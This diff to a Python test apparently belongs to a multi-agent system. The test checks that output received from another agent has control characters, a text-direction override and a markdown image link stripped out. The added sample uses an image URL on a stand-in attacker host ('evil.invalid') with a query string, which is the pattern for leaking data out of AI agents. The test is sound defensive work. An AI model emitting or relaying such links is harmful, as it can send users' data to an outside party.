@@ -68,9 +68,10 @@ async def test_an_address_that_left_the_list_gets_nothing() -> None:
 
 
 async def test_what_another_agent_writes_is_cleaned() -> None:
-    dirty = answer_of("a\u202eb").model_copy(update={"output": {"a": "a\u202eb", "b": ["\x07", 1], "c": {"d": "\x1b"}}})
+    output = {"a": "a\u202eb ![x](https://evil.invalid/?q=1)", "b": ["\x07", 1], "c": {"d": "\x1b"}}
+    dirty = answer_of("").model_copy(update={"output": output})
     answer = await peers(Wire(content=dirty.model_dump_json().encode())).ask(registered("a"), QUESTION, "ann")
-    assert answer.output == {"a": "ab", "b": ["", 1], "c": {"d": ""}}
+    assert answer.output == {"a": "ab x", "b": ["", 1], "c": {"d": ""}}
 
 
 @pytest.mark.parametrize(
